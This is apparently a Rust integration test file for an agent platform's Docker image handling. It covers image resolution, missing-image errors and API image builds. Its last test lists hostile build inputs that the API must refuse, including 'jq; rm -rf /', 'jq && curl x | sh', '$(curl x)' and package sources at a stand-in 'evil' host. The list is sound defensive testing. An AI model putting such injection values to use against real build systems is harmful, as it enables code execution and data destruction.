//! Agent images with the real Docker Engine: the resolution chain seen in the containers
//! sessions really run, a missing image stopping a turn before any container exists, a build
//! through the API streaming over the WebSocket, and hostile build requests refused.
//!
//! Distinct images are cheap tagged copies of `claude-agent-base` (`docker tag`), removed when
//! each test ends. Without an engine these tests say so; under CI=true they fail.

use crate::docker_support::require_docker;
use crate::support::{Options, TestApp, model};
use reqwest::StatusCode;
use scripted_model::{Reply, Script};
use serde_json::{Value, json};
use std::process::Command;
use std::time::Duration;

const TURN: Duration = Duration::from_secs(90);
const BUILD: Duration = Duration::from_secs(300);

/// Whether the engine and `claude-agent-base` are there; under CI their absence fails the test.
fn docker(args: &[&str]) -> std::process::Output {
    Command::new("docker")
        .args(args)
        .output()
        .expect("the docker CLI runs")
}

fn run_id() -> String {
    format!("{:08x}", rand::random::<u32>())
}

/// Every docker-mode platform removes, at boot, the session containers it finds (it cannot tell
/// another platform's from its own leftovers), so the tests of this module run one at a time.
static ONE_PLATFORM_AT_A_TIME: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

/// Image tags and session containers a test made, removed when it ends (passed or not).
#[derive(Default)]
struct Leftovers {
    images: Vec<String>,
    containers: Vec<String>,
}

impl Leftovers {
    /// A tagged copy of claude-agent-base named `name`.
    fn copy_of_base(&mut self, name: &str) -> String {
        let status = docker(&["tag", "claude-agent-base", name]).status;
        assert!(status.success(), "docker tag {name}");
        self.images.push(name.to_owned());
        name.to_owned()
    }

    fn container_of(&mut self, session: &Value) -> String {
        let name = format!("agentyard-{}", session["id"].as_str().unwrap());
        self.containers.push(name.clone());
        name
    }
}

impl Drop for Leftovers {
    fn drop(&mut self) {
        for container in &self.containers {
            let _ = docker(&["rm", "-f", container]);
        }
        for image in &self.images {
            let _ = docker(&["rmi", "-f", image]);
        }
    }
}

/// The image a container was created from, or `None` when there is no such container.
fn container_image(name: &str) -> Option<String> {
    let output = docker(&["inspect", "-f", "{{.Config.Image}}", name]);
    output
        .status
        .success()
        .then(|| String::from_utf8_lossy(&output.stdout).trim().to_owned())
}

/// The image a session container was created from: `docker inspect` while it exists, else the
/// engine's `create` event for it. Another platform booting on the same engine (a parallel test
/// run) removes every session container it finds, so the container may be gone already.
fn created_image(name: &str, since: &str) -> Option<String> {
    if let Some(image) = container_image(name) {
        return Some(image);
    }
    let until = unix_now();
    let filter = format!("container={name}");
    let output = docker(&[
        "events",
        "--since",
        since,
        "--until",
        &until,
        "--filter",
        "event=create",
        "--filter",
        &filter,
        "--format",
        "{{.Actor.Attributes.image}}",
    ]);
    String::from_utf8_lossy(&output.stdout)
        .lines()
        .next()
        .map(str::to_owned)
}

/// Now, as Unix seconds, the way `docker events --since/--until` reads time.
fn unix_now() -> String {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        .to_string()
}

async fn docker_app(model_url: Option<String>, default_image: Option<String>) -> TestApp {
    TestApp::spawn_with(Options {
        mode: "docker",
        model_url,
        default_image,
        ..Options::default()
    })
    .await
}

fn script() -> Script {
    Script::new().rule("which image", [Reply::text("this one")])
}

async fn create(app: &TestApp, path: &str, body: Value) -> Value {
    let (status, created) = app.post(path, body).await;
    assert_eq!(status, StatusCode::CREATED, "{path}: {created}");
    created
}

#[tokio::test]
async fn each_level_of_the_chain_decides_the_image_a_session_container_runs() {
    require_docker();
    let _turn = ONE_PLATFORM_AT_A_TIME.lock().await;
    let run = run_id();
    let mut leftovers = Leftovers::default();
    let image = |level: &str| format!("claude-agent-t{run}-{level}");
    let explicit = leftovers.copy_of_base(&image("explicit"));
    let agent_image = leftovers.copy_of_base(&image("agent"));
    let project_image = leftovers.copy_of_base(&image("project"));
    let default_image = leftovers.copy_of_base(&image("default"));
    let model = model(script());
    let since = unix_now();

    let app = docker_app(Some(model.base_url()), Some(default_image.clone())).await;
    let with_image = create(
        &app,
        "/api/projects",
        json!({"name": "with-image", "agent_image": project_image}),
    )
    .await;
    let plain = create(&app, "/api/projects", json!({"name": "plain"})).await;
    let agent = create(
        &app,
        "/api/agents",
        json!({"name": "imaged", "docker_image": agent_image}),
    )
    .await;
    let session = |project: &Value, agent: Option<&Value>, image: Option<&str>| {
        let mut body = json!({"project_id": project["id"], "mode": "explore", "title": "chain"});
        if let Some(agent) = agent {
            body["agent_id"] = agent["id"].clone();
        }
        if let Some(image) = image {
            body["docker_image"] = json!(image);
        }
        body
    };
    let cases = [
        (
            session(&with_image, Some(&agent), Some(&explicit)),
            &explicit,
        ),
        (session(&with_image, Some(&agent), None), &agent_image),
        (session(&with_image, None, None), &project_image),
        (session(&plain, None, None), &default_image),
    ];
    let mut ws = app.ws().await;
    let mut sessions = Vec::new();
    for (body, expected) in cases {
        let created = create(&app, "/api/sessions", body).await;
        leftovers.container_of(&created);
        ws.send(
            json!({"type": "chat:send", "sessionId": created["id"], "content": "which image?"}),
        )
        .await;
        sessions.push((created, expected.clone()));
    }
    for (session, expected) in &sessions {
        let id = session["id"].as_str().unwrap();
        let done = ws.done(id, TURN).await;
        assert!(done["interrupted"] != true, "{done}");
        let container = format!("agentyard-{id}");
        assert_eq!(
            created_image(&container, &since).as_deref(),
            Some(expected.as_str())
        );
        assert_eq!(app.session(id).await["image"], expected.as_str());
    }
    for (session, _) in &sessions {
        let (status, _) = app
            .delete(&format!(
                "/api/sessions/{}",
                session["id"].as_str().unwrap()
            ))
            .await;
        assert_eq!(status, StatusCode::NO_CONTENT);
    }

    // With nothing configured anywhere, the built-in default runs.
    let bare = docker_app(Some(model.base_url()), None).await;
    let project = create(&bare, "/api/projects", json!({"name": "bare"})).await;
    let session = create(&bare, "/api/sessions", session(&project, None, None)).await;
    let container = leftovers.container_of(&session);
    let mut ws = bare.ws().await;
    let id = session["id"].as_str().unwrap();
    ws.send(json!({"type": "chat:send", "sessionId": id, "content": "which image?"}))
        .await;
    ws.done(id, TURN).await;
    assert_eq!(
        created_image(&container, &since).as_deref(),
        Some("claude-agent-base")
    );
}

#[tokio::test]
async fn a_missing_image_is_a_clear_chat_error_and_no_container_is_created() {
    require_docker();
    let _turn = ONE_PLATFORM_AT_A_TIME.lock().await;
    let run = run_id();
    let mut leftovers = Leftovers::default();
    let image = leftovers.copy_of_base(&format!("claude-agent-t{run}-gone"));
    let since = unix_now();
    let model = model(script());
    let app = docker_app(Some(model.base_url()), None).await;
    let project = create(&app, "/api/projects", json!({"name": "missing"})).await;
    let session = create(
        &app,
        "/api/sessions",
        json!({"project_id": project["id"], "mode": "explore", "docker_image": image}),
    )
    .await;
    let container = leftovers.container_of(&session);
    assert!(docker(&["rmi", &image]).status.success());

    let id = session["id"].as_str().unwrap();
    let mut ws = app.ws().await;
    ws.send(json!({"type": "chat:send", "sessionId": id, "content": "which image?"}))
        .await;
    let error = ws.error_of(id, TURN).await;
    assert_eq!(error["code"], "image_missing", "{error}");
    let message = error["error"].as_str().unwrap();
    assert!(message.contains(&format!("`{image}`")), "{message}");
    assert!(
        error["remediation"]
            .as_str()
            .is_some_and(|remediation| remediation.contains("POST /api/agents/images")),
        "{error}"
    );
    assert_eq!(
        created_image(&container, &since),
        None,
        "a container was created"
    );
}

#[tokio::test]
async fn building_an_image_with_jq_streams_progress_and_yields_a_working_jq() {
    require_docker();
    let _turn = ONE_PLATFORM_AT_A_TIME.lock().await;
    let mut leftovers = Leftovers::default();
    leftovers.images.push("claude-agent-acc-jq".to_owned());
    let app = docker_app(None, None).await;
    let mut ws = app.ws().await;
    let (status, started) = app
        .post(
            "/api/agents/images",
            json!({"name": "acc-jq", "apt_packages": ["jq"]}),
        )
        .await;
    assert_eq!(status, StatusCode::ACCEPTED, "{started}");
    assert_eq!(started["tag"], "claude-agent-acc-jq");

    let finished = ws
        .wait_for(BUILD, |event| {
            matches!(event["type"].as_str(), Some("image:done" | "image:error"))
        })
        .await;
    assert_eq!(finished["type"], "image:done", "{finished}");
    assert_eq!(finished["tag"], "claude-agent-acc-jq");
    let progress: Vec<&Value> = ws
        .seen
        .iter()
        .filter(|event| event["type"] == "image:progress" && event["tag"] == "claude-agent-acc-jq")
        .collect();
    assert!(
        progress.iter().any(|event| event["line"]
            .as_str()
            .is_some_and(|line| line.starts_with("Step "))),
        "{progress:#?}"
    );

    let output = docker(&["run", "--rm", "claude-agent-acc-jq", "jq", "--version"]);
    assert!(
        output.status.success() && String::from_utf8_lossy(&output.stdout).starts_with("jq-"),
        "{output:?}"
    );
    let (status, images) = app.get("/api/agents/images").await;
    assert_eq!(status, StatusCode::OK);
    let images = images.as_array().unwrap();
    let built = images
        .iter()
        .find(|image| image["name"] == "claude-agent-acc-jq")
        .expect("the new image is listed");
    assert_eq!(built["built_in"], false);
    assert!(built["size"].as_i64().unwrap() > 0 && built["created"].is_string());
    assert!(
        images
            .iter()
            .any(|image| image["name"] == "claude-agent-base" && image["built_in"] == true)
    );

    // Agents may now name it; an image that is not there is refused with the list.
    let (status, _) = app
        .post(
            "/api/agents",
            json!({"name": "jq-agent", "docker_image": "claude-agent-acc-jq"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let (status, refused) = app
        .post(
            "/api/agents",
            json!({"name": "nope", "docker_image": "claude-agent-no-such-image"}),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{refused}");
    assert!(
        refused["error"]
            .as_str()
            .unwrap()
            .contains("claude-agent-acc-jq"),
        "{refused}"
    );
}

#[tokio::test]
async fn hostile_package_and_image_names_are_refused_and_start_no_build() {
    require_docker();
    let _turn = ONE_PLATFORM_AT_A_TIME.lock().await;
    let app = docker_app(None, None).await;
    let mut ws = app.ws().await;
    let ok = "hostile-probe";
    let long = "a".repeat(300);
    let cases: Vec<Value> = vec![
        // Image names.
        json!({"name": "a;id"}),
        json!({"name": "a b"}),
        json!({"name": "x\nRUN id"}),
        json!({"name": "--privileged"}),
        json!({"name": "../../etc"}),
        json!({"name": "Base"}),
        json!({"name": "base"}),
        json!({"name": "асс-jq"}),
        json!({"name": long}),
        json!({"name": "$(id)"}),
        json!({"name": ""}),
        // apt.
        json!({"name": ok, "apt_packages": ["jq; rm -rf /"]}),
        json!({"name": ok, "apt_packages": ["jq\nRUN id"]}),
        json!({"name": ok, "apt_packages": ["--allow-unauthenticated"]}),
        json!({"name": ok, "apt_packages": ["-oAPT::Get::x=1"]}),
        json!({"name": ok, "apt_packages": ["jq && curl x | sh"]}),
        json!({"name": ok, "apt_packages": ["./evil.deb"]}),
        json!({"name": ok, "apt_packages": ["/tmp/evil.deb"]}),
        json!({"name": ok, "apt_packages": ["јq"]}),
        json!({"name": ok, "apt_packages": ["jq=`id`"]}),
        json!({"name": ok, "apt_packages": [long]}),
        // npm.
        json!({"name": ok, "npm_packages": ["$(curl x)"]}),
        json!({"name": ok, "npm_packages": ["--unsafe-perm"]}),
        json!({"name": ok, "npm_packages": ["../../x"]}),
        json!({"name": ok, "npm_packages": ["file:/etc"]}),
        json!({"name": ok, "npm_packages": ["git+https://evil/x.git"]}),
        json!({"name": ok, "npm_packages": ["left-pad@1.0 || >2"]}),
        json!({"name": ok, "npm_packages": ["typescript'"]}),
        // pip.
        json!({"name": ok, "pip_packages": ["requests>/tmp/x"]}),
        json!({"name": ok, "pip_packages": ["-e ."]}),
        json!({"name": ok, "pip_packages": ["--index-url=http://evil"]}),
        json!({"name": ok, "pip_packages": ["requests; os_name=='posix'"]}),
        json!({"name": ok, "pip_packages": ["réquests"]}),
        // Base and free text.
        json!({"name": ok, "base": "debian:bookworm-slim"}),
        json!({"name": ok, "base": "--privileged"}),
        json!({"name": ok, "base": "claude-agent-base\nRUN id"}),
        json!({"name": ok, "dockerfile": "FROM debian\nRUN id"}),
        json!({"name": ok, "apt_packages": "jq"}),
    ];
    assert!(cases.len() >= 30);
    for case in &cases {
        let (status, body) = app.post("/api/agents/images", case.clone()).await;
        assert!(
            status.is_client_error(),
            "{case} was answered {status}: {body}"
        );
        assert!(body["error"].is_string(), "{case}: {body}");
    }
    // Nothing started: no image event reached the WebSocket, no probe image exists.
    ws.collect_for(Duration::from_secs(1)).await;
    let events = ws.seen.clone();
    assert!(
        events
            .iter()
            .all(|event| !event["type"].as_str().unwrap_or("").starts_with("image:")),
        "{events:#?}"
    );
    assert!(
        !docker(&["image", "inspect", &format!("claude-agent-{ok}")])
            .status
            .success()
    );
}
